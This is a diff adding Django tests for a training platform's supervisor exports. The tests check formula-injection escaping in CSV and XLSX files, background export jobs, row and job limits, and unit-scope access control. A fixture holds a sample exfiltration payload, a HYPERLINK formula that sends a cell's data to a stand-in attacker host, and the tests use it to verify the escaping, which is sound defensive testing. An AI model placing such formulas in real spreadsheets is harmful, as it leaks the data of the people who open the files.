@@ -1,0 +1,133 @@
+"""The supervisor's exports: formula injection, the background job, its limits and scope."""
+
+import csv
+import io
+import time
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from accounts.tests.factories import LearnerFactory
+from courses import services as course_services
+from courses.tests.factories import course_build
+from jobs.models import Job
+
+from .factories import export_download, supervisor_of, tree_build
+
+pytestmark = pytest.mark.django_db
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Voir")'
+
+
+@pytest.fixture
+def hostile(tree):
+    """A learner whose name and rank are formulas, in a course whose title is one."""
+    course = course_build(title="=1+2 Garde à vue", modules=1, lessons=1)
+    learner = LearnerFactory(
+        unit=tree.sevare, full_name=HYPERLINK, rank="@SUM(1+1)", matricule="MOP-666"
+    )
+    course_services.enrollment_create(learner=learner, course=course)
+    return learner
+
+
+def test_csv_cells_that_look_like_formulas_are_escaped(client, tree, hostile):
+    client.force_login(supervisor_of(tree.mopti))
+    rows = list(
+        csv.reader(io.StringIO(export_download(client, "csv").decode("utf-8-sig")), delimiter=";")
+    )
+    row = next(r for r in rows[1:] if r[0] == "MOP-666")
+    assert row[1] == "'" + HYPERLINK
+    assert row[2] == "'@SUM(1+1)"
+    assert row[4] == "'=1+2 Garde à vue"
+    assert row[6] == "0"  # a number stays as written
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+
+
+def test_xlsx_cells_that_look_like_formulas_are_text(client, tree, hostile):
+    client.force_login(supervisor_of(tree.mopti))
+    sheet = load_workbook(io.BytesIO(export_download(client, "xlsx"))).active
+    cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "MOP-666")
+    for cell in (cells[1], cells[2], cells[4]):
+        assert cell.data_type == "s"  # text, not "f" (formula)
+        assert cell.quotePrefix and cell.value.startswith("'")
+    assert cells[1].value == "'" + HYPERLINK
+    assert cells[6].value == 0 and cells[6].data_type == "n"
+    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
+
+
+def test_the_request_only_queues_a_job_and_get_is_refused(client, tree, hostile):
+    client.force_login(supervisor_of(tree.mopti))
+    url = reverse("tracking:export", args=["xlsx"])
+    assert client.get(url).status_code == 405
+    response = client.post(f"{url}?status=in_progress&unit={tree.sevare.pk}")
+    job = Job.objects.get()
+    assert response["Location"] == reverse("jobs:job", args=[job.pk])
+    assert job.status == Job.Status.QUEUED and job.kind == "tracking.export"
+    assert job.params["format"] == "xlsx"
+    assert job.params["query"] == f"status=in_progress&unit={tree.sevare.pk}"
+
+
+def test_a_unit_out_of_scope_is_404_and_queues_nothing(client, tree):
+    client.force_login(supervisor_of(tree.mopti))
+    url = reverse("tracking:export", args=["csv"])
+    assert client.post(f"{url}?unit={tree.segou.pk}").status_code == 404
+    assert not Job.objects.exists()
+
+
+def test_a_third_export_waits_for_the_first_two(client, tree, settings):
+    settings.KALAN_JOBS_MAX_ACTIVE_PER_USER = 2
+    client.force_login(supervisor_of(tree.mopti))
+    url = reverse("tracking:export", args=["csv"])
+    client.post(url)
+    client.post(url)
+    response = client.post(f"{url}?sort=name", follow=True)
+    assert response.redirect_chain[-1][0] == reverse("tracking:dashboard") + "?sort=name"
+    assert "Vous avez déjà 2 exports ou imports en cours" in response.content.decode()
+    assert Job.objects.count() == 2
+
+
+def test_too_many_rows_fail_with_a_clear_message(client, tree, hostile, settings):
+    settings.KALAN_EXPORT_MAX_ROWS = 0
+    client.force_login(supervisor_of(tree.mopti))
+    with pytest.raises(AssertionError, match="au-delà de la limite de 0"):
+        export_download(client, "csv")
+    assert Job.objects.get().status == Job.Status.FAILED
+
+
+def test_a_supervisor_moved_elsewhere_no_longer_downloads_the_file(client, tree, hostile):
+    supervisor = supervisor_of(tree.mopti)
+    client.force_login(supervisor)
+    export_download(client, "csv")
+    job = Job.objects.get()
+    supervisor.supervised_units.set([tree.segou])
+    assert client.get(reverse("jobs:job_download", args=[job.pk])).status_code == 404
+    assert client.get(reverse("jobs:job", args=[job.pk])).status_code == 404
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_real_worker_writes_the_export(client, celery_project_worker, wagtail_site):
+    tree = tree_build()
+    course = course_build(title="Garde à vue", modules=1, lessons=1)
+    for n in range(3):
+        course_services.enrollment_create(
+            learner=LearnerFactory(unit=tree.sevare, matricule=f"MOP-{n}"), course=course
+        )
+    client.force_login(supervisor_of(tree.mopti))
+    response = client.post(reverse("tracking:export", args=["csv"]))
+    job = Job.objects.get()
+    assert response["Location"] == reverse("jobs:job", args=[job.pk])
+    deadline = time.monotonic() + 30
+    while job.status != Job.Status.DONE:
+        assert job.status != Job.Status.FAILED, job.message
+        assert time.monotonic() < deadline, f"still {job.status} after 30 s"
+        time.sleep(0.1)
+        job.refresh_from_db()
+    assert job.message == "3 lignes exportées."
+    download = client.get(reverse("jobs:job_download", args=[job.pk]))
+    text = b"".join(download.streaming_content).decode("utf-8-sig")
+    assert sorted(r[0] for r in csv.reader(io.StringIO(text), delimiter=";"))[:3] == [
+        "MOP-0",
+        "MOP-1",
+        "MOP-2",
+    ]
